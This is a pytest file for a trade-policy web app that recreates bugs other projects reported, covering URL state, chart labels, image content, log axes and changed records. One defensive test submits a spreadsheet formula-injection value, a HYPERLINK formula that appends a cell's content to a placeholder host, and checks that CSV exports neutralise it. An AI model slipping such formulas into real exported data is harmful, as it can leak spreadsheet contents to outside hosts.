"""Situations of bugs that users of other programs reported in public, recreated here; each holds.

======================================================  =======================================================
report                                                  held by
======================================================  =======================================================
PolicyEngine 855, 713: a copied URL loses the reform    here, and browser/test_desk (the address holds the state)
policyengine-app 1316: back to the baseline clears all  here
PolicyEngine 879, 903: an empty reform has an effect    here
Streamlit 218, 4541: a slider shows an older value      test_pages (overtaken), browser/test_desk (dragging, beyond)
open-sdg 392: the CSV lacks the series that was added   test_pages (a file of the desk holds what is pinned)
carbon-charts 1521: formulas in a CSV                   here, and test_leaving
lowdb 359: two processes write one file                 test_journal (kill -9 of two servers)
vl-convert 30, 152; vega 1026, 53: labels are cut       here, and report/test_first_screen, report/test_charts
owid-grapher 2679; DataViva 253: an empty picture       here
owid-grapher 1473: a selection in the URL is not shown  here, and browser/test_record_pages (what a page is narrowed to)
covidtrends 114; covid19india 1585: zero on a log axis  here
Datasette 567: a file is changed by another process     here, and test_record (another header)
======================================================  =======================================================
"""

from __future__ import annotations

import re
import zlib
from html import unescape

import pytest

pytest.importorskip("httpx2", reason="starlette's test client needs httpx2")
from starlette.testclient import TestClient

from detente.study import open_study
from detente.web import Keys, Site, Workspace, create_app

TOKEN = "t" * 32
DESK = "/s/colombia-venezuela/desk"


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    return tmp_path_factory.mktemp("space")


@pytest.fixture(scope="module")
def client(root, flagship_quick):
    flagship_quick.write(root / "runs" / "colombia-venezuela" / "001")
    Workspace(root).copy(open_study("colombia-venezuela"), "copy")
    app = create_app(Site(Workspace(root), Keys(token=TOKEN)))
    return TestClient(app, base_url="http://localhost", headers={"accept-language": "en", "x-detente-token": TOKEN},
                      follow_redirects=False)  # fmt: skip


def _results(client, query):
    return client.get(f"{DESK}?{query}&format=json").json()


def test_a_copied_address_brings_baseline_reform_and_pins(client):
    asked = "year=2014&theta=4&goods=-1.5&bloc=0.25&pin=Shut%7Cyear%3D2014%26goods%3Dclosed"
    found = _results(client, asked)
    again = _results(
        client, f"{found['query']}&pin=Shut%7C{found['pins'][0]['query'].replace('&', '%26').replace('=', '%3D')}"
    )
    assert found["setting"] == again["setting"]
    assert [r["flows"] for r in found["results"]] == [r["flows"] for r in again["results"]]
    assert found["setting"]["effects"] == {"goods": -1.5, "bloc": 0.25}
    assert found["setting"]["year"] == 2014
    assert found["results"][1]["setting"]["closed"]


def test_a_lever_put_back_leaves_the_others_where_they_are(client):
    both, one = _results(client, "goods=-1&bloc=0.3"), _results(client, "goods=0&bloc=0.3")
    assert both["setting"]["effects"] == {"goods": -1, "bloc": 0.3}
    assert one["setting"]["effects"] == {"bloc": 0.3}
    assert "goods" not in one["query"]
    assert one["results"][0]["flows"] == _results(client, "bloc=0.3")["results"][0]["flows"]


def test_no_reform_has_no_effect(client):
    found = _results(client, "year=2020")["results"][0]
    assert all(f["after"] == pytest.approx(f["before"], rel=1e-9) for f in found["flows"])
    assert all(abs(row["pct"]) < 1e-8 for row in (*found["income"], *found["elsewhere"]))
    assert found["sentence"].count("about 0%") == 2


def test_a_formula_in_the_record_leaves_as_text(client):
    row = {"event_id": "X1", "date": "2026-10-01", "title": "=HYPERLINK(\"http://x\"&A1)", "kind": "election",
           "direction": "0", "source_ids": "unsourced", "token": TOKEN}  # fmt: skip
    assert client.post("/s/copy/record/events/row", data=row, headers={"origin": "http://localhost"}).status_code == 303
    done = client.get("/s/copy/record/events?find=X1").text
    assert "=HYPERLINK" in unescape(done)
    for name in ("claims", "figures"):
        text = client.get(f"/s/colombia-venezuela/chart/{'trade' if name == 'figures' else 'claims'}.csv").text
        assert not re.search(r'(?m)(^|,)"?[=@]', text)


@pytest.mark.parametrize("chart", ["forecasts", "scenarios", "trade"])
def test_no_label_of_a_chart_is_cut(client, chart):
    answer = client.get(f"/s/colombia-venezuela/chart/{chart}.svg")
    words = re.findall(r"<text[^>]*>([^<]+)</text>", answer.text)
    assert len(words) > 5
    assert not [word for word in words if word.endswith("…")]


@pytest.mark.parametrize("chart", ["forecasts", "scenarios", "verdicts"])
def test_no_label_is_cut_on_a_phone_in_a_longer_language(client, chart):
    page = client.get(f"/s/colombia-venezuela/chart/{chart}", headers={"accept-language": "es"}).text
    narrow = page[page.index('class="picture narrow"') : page.index("<figcaption>")]
    words = re.findall(r"<(?:text|tspan)[^>]*>([^<]+)</", narrow)
    assert len(words) > 5
    assert not [word for word in words if word.endswith("…")]


def _scanlines(png):
    """Width, height and the rows of a PNG's pixels, as they are packed."""
    assert png.startswith(b"\x89PNG")
    at, data, width, height = 8, b"", 0, 0
    while at < len(png):
        size, kind = int.from_bytes(png[at : at + 4], "big"), png[at + 4 : at + 8]
        if kind == b"IHDR":
            width, height = (int.from_bytes(png[at + k : at + k + 4], "big") for k in (8, 12))
        data += png[at + 8 : at + 8 + size] if kind == b"IDAT" else b""
        at += size + 12
    rows = zlib.decompress(data)
    step = len(rows) // height
    return width, height, [rows[k * step : (k + 1) * step] for k in range(height)]


def test_a_picture_is_not_empty_and_says_what_it_shows(client):
    width, height, rows = _scanlines(client.get("/s/colombia-venezuela/chart/first.png").content)
    assert min(width, height) > 300
    assert len(set(rows)) > height / 2  # one line after another differs: there is something on it
    text = client.get("/s/colombia-venezuela/chart/first.svg").text
    assert "What Colombia sold to Venezuela" in unescape(text)
    assert "Source:" in text


def test_a_selection_in_the_address_is_shown_when_the_page_opens(client):
    page = client.get("/s/colombia-venezuela/attribution?a=COL&b=ECU&from=2012&to=2016").text
    assert re.search(r'<option value="ECU" selected>', page)
    assert "Recorded exports from Colombia to Ecuador" in page
    claims = client.get("/s/colombia-venezuela/record/claims?verdict=contradicted&format=json").json()
    assert claims["rows"]
    assert {row["verdict"] for row in claims["rows"]} == {"contradicted"}


def test_a_fall_to_a_recorded_zero_is_no_number_of_a_log_axis(client):
    found = client.get("/s/colombia-venezuela/attribution?a=RUS&b=UKR&from=2021&to=2023&format=json").json()["answer"]
    text = client.get("/s/colombia-venezuela/attribution?a=QAT&b=SAU&from=2016&to=2018").text
    for fan in found["fans"]:
        assert all(row["value"] is None or abs(row["value"]) < 50 for row in fan["path"])
    assert "−Infinity" not in text
    assert "-inf" not in text
    assert "nan" not in re.sub(r"<[^>]+>", " ", text).split()


def test_a_record_changed_by_another_program_is_shown_as_it_is_now(client, root):
    path = root / "copy" / "record" / "events.csv"
    before = path.read_text(encoding="utf-8")
    try:
        lines = before.splitlines(keepends=True)
        path.write_text("".join([lines[0], *lines[2:]]), encoding="utf-8")
        gone = lines[1].split(",")[0]
        assert f">{gone}<" not in client.get("/s/copy/record/events").text
        path.write_text(before.replace("event_id", "id", 1), encoding="utf-8")
        assert client.get("/s/copy/record/events").status_code < 500
    finally:
        path.write_text(before, encoding="utf-8")
